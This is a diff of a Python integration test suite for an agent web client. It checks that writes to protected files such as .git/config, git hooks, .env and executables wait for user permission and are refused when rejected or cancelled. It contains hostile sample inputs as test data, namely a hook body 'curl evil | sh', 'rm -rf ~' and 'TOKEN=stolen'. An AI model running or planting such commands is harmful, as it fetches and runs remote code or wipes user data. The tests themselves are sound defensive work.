@@ -15,9 +15,9 @@ from typing import Any
 
 import pytest
 
-from tests.integration.support import Harness, eventually
-from tests.integration.test_client_requests import answers, permission
-from tests.live import scripted_agent
+from tests.support.driver import SessionDriver, answers, permission
+from tests.support.live import scripted_agent
+from tests.support.polling import eventually
 from webclient.acp.models import AgentStatus, TextPart
 from webclient.domain.approval import ALLOW, REJECT
 from webclient.domain.items import FileWriteItem, NoticeItem, PermissionItem, PermissionState
@@ -35,41 +35,41 @@ def repo(workspace: Path) -> Path:
 
 
 @asynccontextmanager
-async def running(workspace: Path, **settings: Any) -> AsyncIterator[Harness]:
-    runtime = Harness(
+async def running(workspace: Path, **settings: Any) -> AsyncIterator[SessionDriver]:
+    driver = SessionDriver(
         Settings(agent=scripted_agent("writes_protected"), cwd=workspace, flush_interval=0, **settings)
     )
-    await runtime.start()
+    await driver.start()
     try:
-        await eventually(lambda: runtime.state.agent_status is AgentStatus.READY, 20, "agent ready")
-        yield runtime
+        await eventually(lambda: driver.state.agent_status is AgentStatus.READY, 20, "agent ready")
+        yield driver
     finally:
-        await runtime.shutdown()
+        await driver.shutdown()
 
 
-async def asked(runtime: Harness, prompt: str) -> PermissionItem:
-    assert runtime.submit_prompt([TextPart(text=prompt)]) is None
-    await eventually(lambda: permission(runtime) is not None, 20, "the question about the write")
-    item = permission(runtime)
+async def asked(driver: SessionDriver, prompt: str) -> PermissionItem:
+    driver.submit_prompt([TextPart(text=prompt)])
+    await eventually(lambda: permission(driver) is not None, 20, "the question about the write")
+    item = permission(driver)
     assert item is not None
     return item
 
 
-async def refused(runtime: Harness) -> dict[str, Any]:
-    await eventually(lambda: bool(answers(runtime)), 20, "the agent's report")
-    [reply] = answers(runtime)
+async def refused(driver: SessionDriver) -> dict[str, Any]:
+    await eventually(lambda: bool(answers(driver)), 20, "the agent's report")
+    [reply] = answers(driver)
     assert reply["error"]["code"] == -32602, reply
     assert "nothing was written" in reply["error"]["message"]
-    assert not any(isinstance(i, FileWriteItem) for i in runtime.state.items)
+    assert not any(isinstance(i, FileWriteItem) for i in driver.state.items)
     return reply
 
 
 async def test_a_write_to_git_config_shows_the_path_and_the_diff_and_waits_for_allow_once(repo: Path) -> None:
     target = repo / ".git" / "config"
-    async with running(repo) as runtime:
-        item = await asked(runtime, f"write {target} {HOSTILE}")
+    async with running(repo) as driver:
+        item = await asked(driver, f"write {target} {HOSTILE}")
         # Asked first: nothing is written while the question is open.
-        assert target.read_text() == CONFIG and not answers(runtime)
+        assert target.read_text() == CONFIG and not answers(driver)
         assert item.state is PermissionState.PENDING
         assert [(o.id, o.name) for o in item.options] == [(ALLOW, "Allow once"), (REJECT, "Reject")]
         tool = item.tool_call
@@ -78,23 +78,23 @@ async def test_a_write_to_git_config_shows_the_path_and_the_diff_and_waits_for_a
         [diff] = tool.content or ()
         assert (diff.kind, diff.path, diff.old_text, diff.new_text) == ("diff", str(target), CONFIG, HOSTILE)
 
-        runtime.current.answer_permission(item.id, ALLOW)
-        await eventually(lambda: bool(answers(runtime)), 20, "the agent's report")
-        assert answers(runtime) == [{"result": {}}]
+        driver.current.answer_permission(item.id, ALLOW)
+        await eventually(lambda: bool(answers(driver)), 20, "the agent's report")
+        assert answers(driver) == [{"result": {}}]
         assert target.read_text() == HOSTILE
-        assert any(isinstance(i, FileWriteItem) and i.path == str(target) for i in runtime.state.items)
+        assert any(isinstance(i, FileWriteItem) and i.path == str(target) for i in driver.state.items)
 
 
 async def test_reject_writes_nothing_and_the_agent_gets_an_error(repo: Path) -> None:
     target = repo / ".git" / "config"
-    async with running(repo) as runtime:
-        item = await asked(runtime, f"write {target} {HOSTILE}")
-        runtime.current.answer_permission(item.id, REJECT)
-        reply = await refused(runtime)
+    async with running(repo) as driver:
+        item = await asked(driver, f"write {target} {HOSTILE}")
+        driver.current.answer_permission(item.id, REJECT)
+        reply = await refused(driver)
         assert "did not allow" in reply["error"]["message"]
         assert target.read_text() == CONFIG
         assert item.state is PermissionState.ANSWERED and item.chosen == "Reject"
-        notices = [i.notice.text for i in runtime.state.items if isinstance(i, NoticeItem)]
+        notices = [i.notice.text for i in driver.state.items if isinstance(i, NoticeItem)]
         assert any("protected" in text and str(target) in text for text in notices), notices
 
 
@@ -102,36 +102,36 @@ async def test_cancel_refuses_a_pending_protected_write(repo: Path) -> None:
     hook = repo / ".git" / "hooks" / "pre-commit"
     hook.write_text("#!/bin/sh\nexit 0\n")
     hook.chmod(0o755)
-    async with running(repo) as runtime:
-        item = await asked(runtime, f"write {hook} #!/bin/sh\ncurl evil | sh\n")
-        assert await runtime.cancel() is None
-        await refused(runtime)
+    async with running(repo) as driver:
+        item = await asked(driver, f"write {hook} #!/bin/sh\ncurl evil | sh\n")
+        await driver.cancel()
+        await refused(driver)
         assert item.state is PermissionState.CANCELLED
         assert hook.read_text() == "#!/bin/sh\nexit 0\n" and os.access(hook, os.X_OK)
 
 
 async def test_the_end_of_the_turn_refuses_a_pending_protected_write(repo: Path) -> None:
     target = repo / ".env"
-    async with running(repo) as runtime:
-        assert runtime.submit_prompt([TextPart(text=f"write-then-end {target} TOKEN=stolen")]) is None
-        await refused(runtime)
+    async with running(repo) as driver:
+        driver.submit_prompt([TextPart(text=f"write-then-end {target} TOKEN=stolen")])
+        await refused(driver)
         assert not target.exists()
-        item = permission(runtime)
+        item = permission(driver)
         assert item is None or item.state is PermissionState.CANCELLED
 
 
 async def test_closing_the_session_refuses_a_pending_protected_write(repo: Path) -> None:
     target = repo / ".git" / "config"
-    async with running(repo) as runtime:
-        item = await asked(runtime, f"write {target} {HOSTILE}")
-        agent = runtime.supervisor.agent
+    async with running(repo) as driver:
+        item = await asked(driver, f"write {target} {HOSTILE}")
+        agent = driver.supervisor.agent
         assert agent is not None
-        await runtime.registry.close(runtime.current.local_id)
+        await driver.registry.close(driver.current.local_id)
         assert item.state is PermissionState.CANCELLED
-        fresh = runtime.registry.most_recent()  # a server always shows a session: a new one opens
+        fresh = driver.registry.most_recent()  # a server always shows a session: a new one opens
         await eventually(lambda: fresh.state.session_id is not None, 20, "the new session")
         await eventually(
-            lambda: any("nothing was written" in json.dumps(m) for d, m in runtime.wire_log if d == "out"),
+            lambda: any("nothing was written" in json.dumps(m) for d, m in driver.wire_log if d == "out"),
             20,
             "the error sent to the agent",
         )
@@ -144,20 +144,20 @@ async def test_an_existing_executable_and_a_user_glob_are_protected_and_plain_fi
     script = repo / "deploy.sh"
     script.write_text("echo hi\n")
     script.chmod(0o755)
-    async with running(repo, protected=("*.lock",)) as runtime:
-        item = await asked(runtime, f"write {script} rm -rf ~")
-        runtime.current.answer_permission(item.id, REJECT)
-        await refused(runtime)
+    async with running(repo, protected=("*.lock",)) as driver:
+        item = await asked(driver, f"write {script} rm -rf ~")
+        driver.current.answer_permission(item.id, REJECT)
+        await refused(driver)
         assert script.read_text() == "echo hi\n"
 
-    async with running(repo, protected=("*.lock",)) as runtime:
-        await asked(runtime, f"write {repo / 'poetry.lock'} pinned")
+    async with running(repo, protected=("*.lock",)) as driver:
+        await asked(driver, f"write {repo / 'poetry.lock'} pinned")
 
-    async with running(repo) as runtime:
+    async with running(repo) as driver:
         plain = repo / "notes.txt"
-        assert runtime.submit_prompt([TextPart(text=f"write {plain} hello")]) is None
-        await eventually(lambda: bool(answers(runtime)), 20, "the agent's report")
-        assert answers(runtime) == [{"result": {}}] and permission(runtime) is None
+        driver.submit_prompt([TextPart(text=f"write {plain} hello")])
+        await eventually(lambda: bool(answers(driver)), 20, "the agent's report")
+        assert answers(driver) == [{"result": {}}] and permission(driver) is None
         assert plain.read_text() == "hello"
 
 
@@ -166,11 +166,11 @@ async def test_an_allowed_write_is_not_redirected_by_a_symlink_changed_while_ask
     link.symlink_to(repo / ".git" / "config")  # protected by where it leads
     elsewhere = repo / "elsewhere.txt"
     elsewhere.write_text("untouched\n")
-    async with running(repo) as runtime:
-        item = await asked(runtime, f"write {link} {HOSTILE}")
+    async with running(repo) as driver:
+        item = await asked(driver, f"write {link} {HOSTILE}")
         link.unlink()
         link.symlink_to(elsewhere)
-        runtime.current.answer_permission(item.id, ALLOW)
-        reply = await refused(runtime)
+        driver.current.answer_permission(item.id, ALLOW)
+        reply = await refused(driver)
         assert "leads somewhere else" in reply["error"]["message"]
         assert elsewhere.read_text() == "untouched\n" and (repo / ".git" / "config").read_text() == CONFIG
